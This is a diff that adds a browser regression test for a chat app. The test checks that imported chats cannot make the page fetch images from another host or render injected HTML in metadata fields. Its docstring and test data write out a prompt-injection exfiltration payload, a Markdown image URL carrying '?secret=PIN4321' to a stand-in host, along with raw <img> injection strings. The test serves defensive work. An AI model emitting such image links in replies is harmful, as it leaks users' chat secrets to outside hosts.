@@ -1,0 +1,106 @@
+"""What a chat's own content may make the page do, in Debian's Chromium against the real app
+(conftest's chat_app): an imported chat's messages and fields load nothing from another host and
+show as typed (issue 41, items 6 and 7)."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from chat_page_utils import BROWSER_MARKS, REPLY, browser, wait_page_loaded  # noqa: F401 (browser: fixture)
+from server_utils import wait_until
+
+pytestmark = BROWSER_MARKS
+
+
+@pytest.fixture
+def app(chat_app):
+    return chat_app
+
+
+def open_page(page, app) -> None:
+    """Open the chat page (the one place that knows its address)."""
+    page.goto(f"{app.url}/")
+    wait_page_loaded(page, "Ready", 180)
+
+
+@pytest.fixture
+def tab(browser, app):
+    context = browser.new_context(viewport={"width": 1280, "height": 860})
+    yield context.new_page()
+    context.close()
+
+
+class Listener:
+    """A loopback port that counts the connections made to it: "another host" for the page."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+@pytest.fixture
+def listener():
+    other = Listener()
+    yield other
+    other.close()
+
+
+def import_chat(page, path: Path) -> None:
+    if not page.locator("#import-btn").is_visible():
+        page.click("text=Manage")
+        page.wait_for_selector("#import-btn", state="visible")
+    with page.expect_file_chooser() as chooser:
+        page.click("#import-btn")
+    chooser.value.set_files(str(path))
+
+
+def test_a_chat_with_images_from_another_host_loads_nothing_from_it(tab, app, listener, tmp_path):
+    """Issue 41, item 6: an assistant message "![x](http://127.0.0.1:9/exfil.png?secret=PIN4321)"
+    was fetched as soon as the chat opened (a prompt-injected reply can carry the chat's secrets
+    out so). A Markdown image shows as a link, "🖼 x · image from host — click to open", and
+    nothing is requested from that host (neither a reference image nor HTML <img>). Item 7 in
+    the same chat: the imported model and stop reason show as typed in the line under the reply."""
+    other = f"http://127.0.0.1:{listener.port}"
+    forged = f"<img src={other}/model.png>**bold**"
+    reply = (f"Here: ![secret]({other}/exfil.png?secret=PIN4321) and ![ref][r] and <img src={other}/raw.png>.\n\n"
+             f"[r]: {other}/ref.png")
+    chat = tmp_path / "images.json"
+    chat.write_text(json.dumps({"title": f"Quagga images {time.time_ns()}", "format": "minisgl-chat conversation", "messages": [
+        {"role": "user", "content": "show me"},
+        {"role": "assistant", "content": reply, "model": forged, "stats": {"tokens": 3, "stopped": True, "stopped_by": forged}}]}))
+    requested: list[str] = []
+    tab.on("request", lambda r: requested.append(r.url))
+    open_page(tab, app)
+    import_chat(tab, chat)
+    link = tab.locator(f"{REPLY} a", has_text="image from 127.0.0.1")
+    assert wait_until(lambda: link.count() == 1, 30), tab.inner_text("#chatbot")[:500]
+    assert link.inner_text().replace("\u2062", "") == "🖼 secret · image from 127.0.0.1 — click to open", link.inner_text()
+    assert link.get_attribute("href") == f"{other}/exfil.png?secret=PIN4321"
+    assert tab.locator("#chatbot img").count() == 0, tab.inner_html("#chatbot")[:2000]
+    line = tab.locator("#chatbot .thought-group .title").last.inner_text()
+    assert f"stopped ({forged}) · {forged}" in line, line  # as typed: no image, no bold
+    assert tab.locator("#chatbot .thought-group .title strong").count() == 0
+    time.sleep(1.0)  # a fetch started by the page would have reached the port by now
+    assert listener.connections == 0 and not [u for u in requested if str(listener.port) in u], requested
